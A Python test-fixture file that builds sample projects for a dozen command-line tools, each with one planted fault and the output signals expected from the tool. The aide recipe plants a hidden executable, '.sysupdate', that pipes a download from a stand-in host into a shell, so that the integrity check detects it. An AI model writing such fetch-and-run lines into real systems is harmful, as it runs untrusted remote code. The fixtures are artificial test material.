"""Cowled recipes for network, logs, services, data, VCS, system, storage and listings: wget, zcat, caddy,
icinga2, bean-check, radvd, git-imerge, git-filter-repo, aide, restic, sloccount, exiftool.

Each signal is written from the raw output's meaning, without any view of it being computed.
"""

from __future__ import annotations

import gzip
import os

from cowled_common import Run, S, exits, recipe, sh, vbin, wait_port, write  # noqa: F401

NPM_PINS: list[str] = []
PY_PINS: list[str] = []
APT_PINS: dict[str, str] = {
    "wget": "1.21.3-1+deb12u1", "apache2-utils": "2.4.71-1~deb12u1", "icinga2": "2.13.6-2+deb12u2", "caddy": "2.6.2-5",
    "aide": "0.18.3-1+deb12u5", "restic": "0.14.0-1+b5", "beancount": "2.3.5-2", "knot": "3.2.6-1",
    "xorriso": "1.5.4-4", "sloccount": "2.26-5.2", "radvd": "1:2.19-1+b1", "gzip": "1.12-1",
    "git-imerge": "1.2.0-3", "git-filter-repo": "2.38.0-1", "libimage-exiftool-perl": "12.57+dfsg-1",
}


# --- wget -r: mirroring a project's 560-page manual from its local preview server; one link is dead --------

def _manual_page(part: int, n: int) -> str:
    """One page of the manual, linking the next page and its part's index; part 6 page 41 links a removed page."""
    nxt = f"page-{n + 1:02d}.html" if n < 69 else "index.html"
    extra = '<a href="../part-6/page-legacy-upgrade.html">Upgrading from 1.x</a>' if (part, n) == (6, 41) else ""
    return (f"<!doctype html><html><head><title>Part {part}, page {n}</title><link rel=\"stylesheet\" href=\"../style.css\">"
            f"</head><body><h1>Part {part}, page {n}</h1><p>{'Configuration and operation notes. ' * 12}</p>"
            f"<a href=\"{nxt}\">Next</a> <a href=\"index.html\">Part index</a> {extra}</body></html>\n")


@recipe("wget-mirror-manual-one-404", "wget", "network", ["wget", "--version"], needs=("wget",))
def _wget(root):
    """Write the `wget-mirror-manual-one-404` project under `root`; return its command and signals."""
    write(root, "site/style.css", "body { font-family: serif; max-width: 48em; margin: auto; }\n")
    parts = []
    for part in range(8):
        links = "".join(f'<li><a href="page-{n:02d}.html">Page {n}</a></li>' for n in range(70))
        write(root, f"site/part-{part}/index.html", f"<!doctype html><html><body><h1>Part {part}</h1><ul>{links}</ul></body></html>\n")
        parts.append(f'<li><a href="part-{part}/index.html">Part {part}</a></li>')
        for n in range(70):
            write(root, f"site/part-{part}/page-{n:02d}.html", _manual_page(part, n))
    write(root, "site/index.html", f"<!doctype html><html><body><h1>Manual</h1><ul>{''.join(parts)}</ul></body></html>\n")
    serve = ("python -m http.server 18961 --bind 127.0.0.1 --directory site >/dev/null 2>&1 & srv=$!; "
             + wait_port(18961))
    return Run(["wget", "--recursive", "--no-parent", "--level=3", "--directory-prefix=mirror", "http://127.0.0.1:18961/"], [
        S("stderr", r"page-legacy-upgrade\.html$", "the request for the dead page"),
        S("stderr", r"ERROR 404: File not found\.$", "the one failure among 570 downloads"),
        S("stderr", r"^FINISHED --", "the end of the run"),
        S("stderr", r"^Downloaded: \d+ files", "the totals"),
    ], command=serve + "wget --recursive --no-parent --level=3 --directory-prefix=mirror http://127.0.0.1:18961/; "
       "rc=$?; kill $srv; exit $rc", expect_exit=exits(8))


# --- zcat: reading a rotated API log of a day's 24,000 requests; two upstream timeouts and one panic -------

def _api_log() -> str:
    """The log: one INFO line a request, a WARN now and then for slow ones, two upstream errors, one panic."""
    out = []
    routes = ("/v2/orders", "/v2/orders/{id}", "/v2/customers/{id}", "/v2/invoices", "/v2/search", "/healthz")
    for n in range(24000):
        stamp = f"2026-11-18T{n // 1000:02d}:{(n // 17) % 60:02d}:{n % 60:02d}.{(n * 37) % 1000:03d}Z"
        route = routes[n % 6]
        ms = 4 + (n * 13) % 90
        if n in (8812, 8813):
            out.append(f"{stamp} ERROR api.upstream request_id=r{n:06d} route={route} upstream=billing:8443 "
                       f"error=\"context deadline exceeded\" after_ms=30000\n")
        elif n == 15530:
            out.append(f"{stamp} ERROR api.http request_id=r{n:06d} route={route} panic=\"runtime error: invalid memory "
                       f"address or nil pointer dereference\" handler=invoices.List recovered=true status=500\n")
        elif n % 900 == 450:
            out.append(f"{stamp} WARN  api.http request_id=r{n:06d} route={route} slow_request duration_ms={ms * 40}\n")
        else:
            out.append(f"{stamp} INFO  api.http request_id=r{n:06d} method=GET route={route} status=200 duration_ms={ms} "
                       f"bytes={(n * 131) % 9000 + 120}\n")
    return "".join(out)


@recipe("zcat-rotated-api-log-rare-errors", "zcat", "log", ["zcat", "--version"], needs=("zcat",))
def _zcat(root):
    """Write the `zcat-rotated-api-log-rare-errors` project under `root`; return its command and signals."""
    os.makedirs(os.path.join(root, "logs"))
    with gzip.GzipFile(os.path.join(root, "logs/api.log.3.gz"), "wb", mtime=0) as handle:
        handle.write(_api_log().encode())
    return Run(["zcat", "logs/api.log.3.gz"], [
        S("stdout", r" ERROR ", "the two upstream timeouts and the recovered panic among 24,000 lines"),
    ], expect_exit=exits(0))


# --- caddy validate: a site's Caddyfile of 14 hosts; one block misspells a directive ----------------------

def _caddy_site(n: int) -> str:
    """One host's block; host 9's reverse proxy directive is misspelt."""
    proxy = "reverse_poxy" if n == 9 else "reverse_proxy"
    return (f"app{n}.example.internal {{\n\ttls internal\n\tencode gzip\n\tlog {{\n\t\toutput file /tmp/caddy-app{n}.log\n\t}}\n"
            f"\t@api path /api/*\n\t{proxy} @api 127.0.0.1:{9100 + n}\n\tfile_server {{\n\t\troot /srv/app{n}\n\t}}\n}}\n\n")


@recipe("caddy-validate-misspelt-directive", "caddy", "config-check", ["caddy", "version"], needs=("caddy",))
def _caddy(root):
    """Write the `caddy-validate-misspelt-directive` project under `root`; return its command and signals."""
    write(root, "Caddyfile", "{\n\tadmin off\n}\n\n" + "".join(_caddy_site(n) for n in range(14)))
    return Run(["caddy", "validate", "--config", "Caddyfile", "--adapter", "caddyfile"], [
        S("stderr", r"reverse_poxy", "the error: the misspelt directive and where it is"),
    ], expect_exit=exits(1))


# --- icinga2 daemon -C: a monitoring config of 240 hosts; one host imports a template by a misspelt name

def _icinga_hosts() -> str:
    """Web, database and worker hosts, with their queue services; web-117 imports `generic-hots`."""
    out = []
    for n in range(240):
        role = ("web", "db", "worker")[n % 3]
        template = "generic-hots" if n == 117 else "generic-host"
        out.append(f'object Host "{role}-{n:03d}" {{\n  import "{template}"\n  address = "10.0.{n // 100}.{n % 100 + 1}"\n'
                   f'  vars.role = "{role}"\n  vars.rack = "r{n % 12}"\n}}\n\n')
        if role == "worker":
            out.append(f'object Service "queue-depth" {{\n  host_name = "{role}-{n:03d}"\n  check_command = "app-queue-depth"\n'
                       f'  vars.queue = "jobs-{n % 5}"\n}}\n\n')
    return "".join(out)


_ICINGA_CONF = """\
include <itl>
include <plugins>

const PluginDir = "/usr/lib/nagios/plugins"

template Host "generic-host" {
  max_check_attempts = 3
  check_interval = 1m
  retry_interval = 30s
  check_command = "hostalive"
}

object CheckCommand "app-health" {
  command = [ PluginDir + "/check_http", "-H", "$address$", "-u", "/healthz" ]
}

object CheckCommand "app-queue-depth" {
  command = [ "/usr/local/bin/check_queue", "--queue", "$queue$", "--warn", "500", "--crit", "2000" ]
}

apply Service "health" {
  check_command = "app-health"
  assign where host.vars.role == "web"
}

apply Service "load" {
  check_command = "load"
  assign where host.vars.role in [ "db", "worker" ]
}

include "ROOT/hosts.conf"
"""


@recipe("icinga2-config-unknown-template", "icinga2", "config-check", ["icinga2", "--version"], needs=("icinga2",))
def _icinga2(root):
    """Write the `icinga2-config-unknown-template` project under `root`; return its command and signals."""
    write(root, "icinga2.conf", _ICINGA_CONF.replace("ROOT", root))
    write(root, "hosts.conf", _icinga_hosts())
    return Run(["icinga2", "daemon", "-C", "-c", f"{root}/icinga2.conf"], [
        S("stdout", r"critical/config: Error: .*generic-hots", "the error: a host imports a template nobody defined"),
        S("stdout", r"^Location: in .*hosts\.conf: \d+", "where"),
        S("stdout", r"critical/config: 1 error", "the count"),
        S("stdout", r"critical/cli: Config validation failed", "the verdict"),
    ], expect_exit=exits(1))


# --- bean-check: three years of a household's ledger, 3,600 transactions; one does not balance, one balance fails

_ACCOUNTS = ("Expenses:Food:Groceries", "Expenses:Transport", "Expenses:Utilities:Power", "Expenses:Home:Rent",
             "Expenses:Leisure")


def _ledger() -> str:
    """The ledger: opens, a salary and four spendings a month week, monthly balance assertions; two slips."""
    out = ['option "title" "Household"\noption "operating_currency" "EUR"\n\n2023-01-01 open Assets:Bank:Checking EUR\n'
           "2023-01-01 open Income:Salary EUR\n2023-01-01 open Equity:Opening-Balances EUR\n"]
    out += [f"2023-01-01 open {a} EUR\n" for a in _ACCOUNTS]
    out.append('\n2023-01-01 * "Opening balance"\n  Assets:Bank:Checking  2000.00 EUR\n  Equity:Opening-Balances\n\n')
    balance = 200000
    for month in range(36):
        year, mon = 2023 + month // 12, month % 12 + 1
        out.append(f'{year}-{mon:02d}-01 * "Employer" "Salary"\n  Assets:Bank:Checking  3100.00 EUR\n  Income:Salary  -3100.00 EUR\n\n')
        balance += 310000
        for n in range(100):
            day, cents = n % 27 + 2, 500 + (n * 173 + month * 31) % 4000
            account = _ACCOUNTS[n % 5]
            other = f"-{(cents - 1000 if (month, n) == (20, 64) else cents) // 100}.{cents % 100:02d}"
            out.append(f'{year}-{mon:02d}-{day:02d} * "Shop {n % 23}" "purchase {n}"\n  {account}  {cents // 100}.{cents % 100:02d} EUR\n'
                       f"  Assets:Bank:Checking  {other} EUR\n\n")
            balance -= cents - (1000 if (month, n) == (20, 64) else 0)
        stated = balance + (1250 if month == 29 else 0)
        nxt = f"{year + (mon == 12)}-{mon % 12 + 1:02d}-01"
        out.append(f"{nxt} balance Assets:Bank:Checking  {stated // 100}.{stated % 100:02d} EUR\n\n")
    return "".join(out)


@recipe("bean-check-ledger-unbalanced-and-balance", "bean-check", "data", ["bean-check", "--version"], needs=("bean-check",))
def _bean_check(root):
    """Write the `bean-check-ledger-unbalanced-and-balance` project under `root`; return its command and signals."""
    write(root, "household.beancount", _ledger())
    return Run(["bean-check", "household.beancount"], [
        S("stderr", r"/household\.beancount:\d+:\s+Transaction does not balance", "the unbalanced transaction"),
        S("stderr", r"/household\.beancount:\d+:\s+Balance failed", "the failed balance assertions"),
    ], expect_exit=exits(1))


# --- radvd --configtest: router advertisements for 6 VLANs; one prefix is longer than an address ----------

def _radvd_vlan(n: int) -> str:
    """One VLAN interface's advertisement; VLAN 40's prefix length is mistyped."""
    plen = 640 if n == 4 else 64
    return (f"interface vlan{n * 10} {{\n\tAdvSendAdvert on;\n\tMinRtrAdvInterval 30;\n\tMaxRtrAdvInterval 100;\n"
            f"\tprefix 2001:db8:{n * 10}::/{plen} {{\n\t\tAdvOnLink on;\n\t\tAdvAutonomous on;\n\t}};\n"
            f"\tRDNSS 2001:db8:{n * 10}::53 {{ }};\n}};\n\n")


@recipe("radvd-configtest-prefix-length", "radvd", "network-config", ["radvd", "--version"], needs=("radvd",))
def _radvd(root):
    """Write the `radvd-configtest-prefix-length` project under `root`; return its command and signals."""
    write(root, "radvd.conf", "".join(_radvd_vlan(n) for n in range(6)))
    return Run(["radvd", "--configtest", "-C", "radvd.conf"], [
        S("stderr", r"(?i)error|invalid|exiting", "the error on VLAN 40's prefix"),
    ], expect_exit=exits(1))


# --- git-imerge: merging a 90-commit feature branch into a main that moved 60 commits; one pair conflicts --

_GIT_ENV = {"GIT_AUTHOR_NAME": "Dev", "GIT_AUTHOR_EMAIL": "dev@example.org", "GIT_COMMITTER_NAME": "Dev",
            "GIT_COMMITTER_EMAIL": "dev@example.org", "GIT_AUTHOR_DATE": "2026-03-01T12:00:00Z",
            "GIT_COMMITTER_DATE": "2026-03-01T12:00:00Z", "GIT_CONFIG_GLOBAL": "/dev/null"}

_IMERGE_HISTORY = r"""
set -e
git init -q -b main
for m in $(seq 0 19); do seq 1 60 | sed "s/^/setting_${m}_/; s/$/ = default/" > conf/module_$m.ini; done
git add conf && git commit -qm "import module settings"
git checkout -qb feature
for i in $(seq 1 90); do
  m=$((i % 20)); k=$((i / 20 + 1))
  sed -i "s/^setting_${m}_${k} = default$/setting_${m}_${k} = tuned-$i/" conf/module_$m.ini
  git commit -qam "tune module $m setting $k"
done
git checkout -q main
for i in $(seq 1 60); do
  m=$(((i * 7) % 20)); k=$((i / 20 + 31))
  [ $i = 44 ] && { m=13; k=1; }
  sed -i "s/^setting_${m}_${k} = default$/setting_${m}_${k} = site-$i/" conf/module_$m.ini
  git commit -qam "site override $i for module $m"
done
"""


@recipe("git-imerge-feature-one-conflict", "git-imerge", "vcs", ["sh", "-c", "dpkg-query -W -f '${Version}' git-imerge"],
        needs=("git-imerge",))
def _git_imerge(root):
    """Write the `git-imerge-feature-one-conflict` project under `root`; return its command and signals."""
    os.makedirs(os.path.join(root, "conf"))
    sh(_IMERGE_HISTORY, root, env=_GIT_ENV)
    return Run(["git-imerge", "merge", "feature"], [
        S("stdout", r"^CONFLICT \(content\): Merge conflict in conf/module_13\.ini$", "the conflict"),
        S("stdout", r"^Automatic merge failed", "the failed merge"),
        S("stderr", r"^There was a conflict merging commit \d+-\d+, shown above\.$", "where the merge stopped"),
        S("stderr", r"^    git-imerge continue$", "what to do next"),
    ], env=_GIT_ENV, expect_exit=exits(0, 1, 2))


# --- git filter-repo: dropping a committed secrets directory from a 1,200-commit history -------------------

def _fast_import_stream() -> str:
    """A fast-import stream: 1,200 commits touching 40 source files; commit 311 adds `secrets/`."""
    out = []
    for n in range(1, 1201):
        body = f"# module {n % 40}\nVERSION = {n}\n" + "".join(f"def step_{k}():\n    return {k * n}\n" for k in range(6))
        msg = f"update module {n % 40} to revision {n}\n"
        out.append(f"commit refs/heads/main\nmark :{n}\ncommitter Dev <dev@example.org> {1767225600 + n * 3600} +0000\n"
                   f"data {len(msg)}\n{msg}" + (f"from :{n - 1}\n" if n > 1 else ""))
        out.append(f"M 644 inline src/module_{n % 40}.py\ndata {len(body)}\n{body}\n")
        if n == 311:
            secret = "AWS_SECRET_ACCESS_KEY=example-not-a-real-key\nDB_PASSWORD=example\n"
            out.append(f"M 644 inline secrets/prod.env\ndata {len(secret)}\n{secret}\n")
    return "".join(out)


@recipe("git-filter-repo-drop-secrets-dir", "git-filter-repo", "vcs", ["git-filter-repo", "--version"],
        needs=("git-filter-repo",))
def _git_filter_repo(root):
    """Write the `git-filter-repo-drop-secrets-dir` project under `root`; return its command and signals."""
    write(root, "history.fi", _fast_import_stream())
    sh("git init -q -b main repo && git -C repo fast-import --quiet < history.fi && git -C repo reset -q --hard"
       " && git clone -q file://$PWD/repo clone", root, env=_GIT_ENV)
    return Run(["git", "filter-repo", "--path", "secrets/", "--invert-paths"], [
        S("stdout", r"Parsed 1200 commits", "how much history was read (after carriage-return progress)"),
        S("stdout", r"^Completely finished after", "the verdict"),
    ], cwd="clone", env=_GIT_ENV, expect_exit=exits(0))


# --- aide --check: after a release of 330 changed modules, an integrity check also finds one new binary ----

def _module_text(n: int, release: int) -> str:
    """One module of the service; the release changes every fourth one."""
    return f"# module {n}, release {release}\n" + "".join(f"def handler_{k}(event):\n    return {k + n + release}\n" for k in range(8))


@recipe("aide-check-release-one-new-binary", "aide", "system", ["aide", "--version"], needs=("aide",))
def _aide(root):
    """Write the `aide-check-release-one-new-binary` project under `root`; return its command and signals."""
    for n in range(1320):
        write(root, f"srv/app/lib/pkg_{n // 60:02d}/module_{n:04d}.py", _module_text(n, 1))
    write(root, "srv/app/bin/app-server", "#!/bin/sh\nexec python3 -m app.server \"$@\"\n", mode=0o755)
    write(root, "aide.conf", f"database_in=file:{root}/aide.db\ndatabase_out=file:{root}/aide.db.new\nreport_url=stdout\n"
          f"Checks = p+i+n+u+g+s+m+c+sha256\n{root}/srv/app Checks\n")
    sh("aide --init --config aide.conf && mv aide.db.new aide.db", root)
    for n in range(0, 1320, 4):
        write(root, f"srv/app/lib/pkg_{n // 60:02d}/module_{n:04d}.py", _module_text(n, 2))
    write(root, "srv/app/bin/.sysupdate", "#!/bin/sh\ncurl -s http://203.0.113.9/u | sh\n", mode=0o755)
    return Run(["aide", "--check", "--config", "aide.conf"], [
        S("stdout", r"^AIDE found differences between database and filesystem", "the verdict"),
        S("stdout", r"^\s+(Added|Removed|Changed) entries:\s+\d+$", "the counts"),
        S("stdout", r"^f\++: .*/srv/app/bin/\.sysupdate$", "the one added file: an unexpected binary among the release's changes"),
    ], expect_exit=exits(1, 3, 4, 5, 6, 7))


# --- restic check --read-data: a nightly backup repository whose one pack file got a flipped block ---------

@recipe("restic-check-read-data-corrupt-pack", "restic", "storage", ["restic", "version"], needs=("restic",))
def _restic(root):
    """Write the `restic-check-read-data-corrupt-pack` project under `root`; return its command and signals."""
    for n in range(600):
        write(root, f"data/projects/p{n // 50:02d}/report_{n:03d}.txt",
              "".join(f"report {n} line {k}: measured {(n * 7919 + k * 104729) % 100003}\n" for k in range(400)))
    env = {"RESTIC_PASSWORD": "example-passphrase", "RESTIC_REPOSITORY": f"{root}/repo", "RESTIC_CACHE_DIR": f"{root}/cache"}
    sh("restic init -q && restic backup -q data", root, env=env)
    sh("pack=$(find repo/data -type f | sort | head -1) && chmod u+w $pack && "
       "printf 'corrupted-block-corrupted-block' | dd of=$pack bs=1 seek=4096 conv=notrunc status=none", root)
    return Run(["restic", "check", "--read-data"], [
        S("stderr", r"^Pack ID does not match", "the corrupt pack"),
        S("stderr", r"^Fatal: repository contains errors", "the verdict"),
    ], env=env, expect_exit=exits(1))


# --- sloccount: sizing a service repository before a port, 6 languages in 11 top-level directories ---------

@recipe("sloccount-service-repo-summary", "sloccount", "listing", ["sh", "-c", "dpkg-query -W -f '${Version}' sloccount"],
        needs=("sloccount",))
def _sloccount(root):
    """Write the `sloccount-service-repo-summary` project under `root`; return its command and signals."""
    kinds = {"py": "def f{k}(x):\n    return x + {k}\n", "c": "int f{k}(int x)\n{{\n    return x + {k};\n}}\n",
             "js": "export function f{k}(x) {{\n  return x + {k};\n}}\n", "sh": "f{k}() {{\n  echo $(( $1 + {k} ))\n}}\n",
             "go": "func F{k}(x int) int {{\n\treturn x + {k}\n}}\n", "rb": "def f{k}(x)\n  x + {k}\nend\n"}
    dirs = ("api", "worker", "cli", "web", "scripts", "native", "sdk", "tools", "migrations", "admin", "billing")
    for d_index, directory in enumerate(dirs):
        for n in range(30 + d_index * 7):
            ext = list(kinds)[(n + d_index) % 6]
            head = "package main\n\n" if ext == "go" else ("#!/bin/sh\n" if ext == "sh" else "")
            write(root, f"{directory}/file_{n:03d}.{ext}", head + "".join(kinds[ext].format(k=k) for k in range(20 + n % 30)))
    return Run(["sloccount", "."], [
        S("stdout", r"^Total Physical Source Lines of Code \(SLOC\)\s+= ", "the total"),
        S("stdout", r"^Totals grouped by language", "the per-language totals' heading"),
    ], expect_exit=exits(0))


# --- exiftool -r: listing a design team's 3,600 exported PNG assets; one export was cut short -------------

def _png(width: int, height: int, seed: int) -> bytes:
    """A small valid greyscale PNG with a text chunk naming its exporter."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        """One PNG chunk with its CRC."""
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    rows = b"".join(b"\x00" + bytes((x * 7 + y * 3 + seed) % 256 for x in range(width)) for y in range(height))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
            + chunk(b"tEXt", b"Software\x00AssetExporter 4.2") + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


@recipe("exiftool-assets-listing-one-truncated", "exiftool", "listing", ["exiftool", "-ver"], needs=("exiftool",))
def _exiftool(root):
    """Write the `exiftool-assets-listing-one-truncated` project under `root`; return its command and signals."""
    for n in range(3600):
        data = _png(16 + n % 48, 16 + n % 32, n)
        path = os.path.join(root, f"assets/{('icons', 'banners', 'avatars', 'badges')[n % 4]}/set_{n // 200:02d}/asset_{n:04d}.png")
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as handle:
            handle.write(data[:20] if n == 2941 else data)
    return Run(["exiftool", "-r", "-ImageSize", "-BitDepth", "-Software", "assets"], [
        S("stderr", r"^Warning: .*asset_2941\.png$", "the one corrupted file among 3,600"),
        S("stdout", r"^\s+\d+ directories scanned$", "the totals"),
        S("stdout", r"^\s+\d+ image files read$", "the totals"),
    ], expect_exit=exits(0))
